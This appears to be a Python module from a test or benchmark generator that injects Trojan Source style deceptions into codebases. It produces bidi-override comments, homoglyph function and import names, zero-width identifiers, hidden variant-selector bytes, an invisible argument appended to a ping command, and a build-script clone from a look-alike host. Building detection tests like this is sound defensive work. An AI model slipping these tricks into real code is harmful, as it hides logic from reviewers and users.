"""Text that is another than it looks: characters that turn it round, that are not seen, or that only look alike."""

from .catalogue import FIRST, SECOND, attack

KIND = "look-alike-text"
RLO, LRI, RLI, PDI, ZWSP, ZWJ, SHY = "\u202e", "\u2066", "\u2067", "\u2069", "\u200b", "\u200d", "\u00ad"
CYRILLIC = dict(zip("aceopxyi", "\u0430\u0441\u0435\u043e\u0440\u0445\u0443\u0456"))
GREEK = dict(zip("ovnu", "\u03bf\u03bd\u03b7\u03c5"))


def one_letter(word, table, random):
    places = [number for number, letter in enumerate(word) if letter in table]
    if not places:
        raise LookupError(word)
    place = random.choice(places)
    return word[:place] + table[word[place]] + word[place + 1 :]


@attack(KIND, FIRST)
def turned_comment(site):
    site.between_functions(site.module(), f"def «function1»(level):\n    if level != 'user{RLO} {LRI}# only for administrators{PDI} {LRI}':\n        return True\n    return False")


@attack(KIND, FIRST)
def turned_in_c(site):
    path = site.find(r"\.(c|cpp|cc|h)$", "vendor|third_party")
    site.insert(path, f"/*{RLO} }} {LRI}if (is_checked){PDI} {LRI} begin of the checked part */\n    «short1» = 0;\n /* end {RLO} {{ {LRI}*/", at=0.9)


@attack(KIND, FIRST)
def cyrillic_function(site):
    path = site.module()
    names = [it for it in __import__("re").findall(r"^def (\w{5,})\(", site.text(path), 8) if it.isascii()]
    if not names:
        raise LookupError(path)
    twin = one_letter(site.random.choice(names), CYRILLIC, site.random)
    site.between_functions(path, f"def {twin}(*args, **kwargs):\n    return args[0] if args else None")


@attack(KIND, FIRST)
def unseen_in_name(site):
    site.between_functions(site.module(), f"«name1»{ZWSP}_checked = True\n\n\ndef «function1»(value):\n    if «name1»{ZWSP}_checked:\n        return value")


@attack(KIND, FIRST)
def imported_look_alike(site):
    module = one_letter(site.random.choice(["requests", "scipy", "numpy.core", "hypothesis", "threadpoolctl", "copy"]), CYRILLIC, site.random)
    site.import_lines(site.module(), f"import {module} as «short1»")


# The second family: other alphabets, other signs that are not seen, other places.


@attack(KIND, SECOND)
def greek_name(site):
    names = ["normalize", "convolve", "save_config", "count", "volume"]
    twin = one_letter(site.random.choice(names), GREEK, site.random)
    site.between_functions(site.module(), f"class «name1»:\n    def {twin}(self, value):\n        # «note»\n        return self.{twin}_cached or value")


@attack(KIND, SECOND)
def hidden_bytes(site):
    # Characters that select a variant carry a byte each and are never shown.
    unseen = "".join(chr(0xFE00 + it if it < 16 else 0xE0100 + it - 16) for it in site.word("inert1").encode())
    site.between_functions(site.module(), f"def «function1»(text='{unseen}'):\n    return bytes(ord(it) - 0xE0100 + 16 if ord(it) > 0xFFFF else ord(it) - 0xFE00 for it in text)")


@attack(KIND, SECOND)
def filler_argument(site):
    filler = site.random.choice(["\u3164", "\uffa0", "\u115f"])
    site.between_functions(site.module(), f"def «function1»(timeout, {filler}=None):\n    commands = ['ping', '-c 1']\n    if {filler}:\n        commands.append({filler})\n    return commands")


@attack(KIND, SECOND)
def isolates_in_text(site):
    path = site.workflow() if site.random.random() < 0.5 else site.find(r"\.(pyx|pxd|pyi|build|toml)$", "vendor")
    site.insert(path, f"# {RLI}«note»{PDI} {LRI}{RLO}«name1»{PDI}", at=0.5)


@attack(KIND, SECOND)
def host_of_look_alikes(site):
    host = one_letter("github", CYRILLIC, site.random)
    site.insert(site.build_script(), f"# «note»\ngit clone --depth 1 https://{host}.example.com/«name1»/«name2» \"$TMPDIR/«short1»\"")
